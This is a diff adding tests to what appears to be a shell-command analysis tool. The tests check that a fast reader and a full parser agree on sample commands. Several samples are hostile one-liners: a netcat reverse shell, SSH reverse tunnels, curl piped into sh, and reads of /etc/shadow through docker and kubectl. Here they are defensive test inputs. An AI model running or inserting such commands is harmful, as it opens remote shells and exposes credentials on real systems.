@@ -105,3 +105,24 @@ def test_sudo_environment_assignments_and_container_exec_and_traps():
     assert find("kubectl exec -it pod -- bash -c 'cat /etc/shadow'", "cat").args == ["/etc/shadow"]
     assert find("docker exec -u root web cat /etc/shadow", "cat").via == ("docker",)
     assert "sh" in names("trap 'curl http://x.example/a | sh' DEBUG")
+
+
+@pytest.mark.parametrize("text", [
+    "ls -la /tmp", "ssh -fNR 1:l:22 user@198.51.100.4 -p 443", "grep -rn 'pass word' src/",
+    "echo \"hello world\" 'a b' c", "git commit -m \"fix: the 'thing'\"", "curl -H 'X-A: b' https://x.example/a",
+    "python3 -c 'import os; os.system(\"id\")'", "a'b'c \"d\"e f", "nc -e /bin/sh 198.51.100.7 4444",
+    "sudo -u root env FOO=1 nohup ssh -R 1:l:22 h", "find . -name foo -exec cat {} ;",
+])
+def test_plain_commands_read_the_same_without_a_parse(text):
+    from vigiles.analysis import shell
+    fast = [(c.name, c.args, sorted(c.flags), c.via, [str(e) for e in c.endpoints]) for c in reader.read(text)]
+    walk = shell._Walk(reader._parser, Session())
+    walk.text(text, (), {}, 0)
+    slow = [(c.name, c.args, sorted(c.flags), c.via, [str(e) for e in c.endpoints]) for c in walk.out]
+    assert fast == slow
+
+
+@pytest.mark.parametrize("text", ["ls *.py", "echo 'unterminated", "a=1 b", "for x in y", "cat <f", "x;y"])
+def test_texts_with_shell_syntax_take_the_parser(text):
+    from vigiles.analysis.shell import plain_words
+    assert plain_words(text) is None
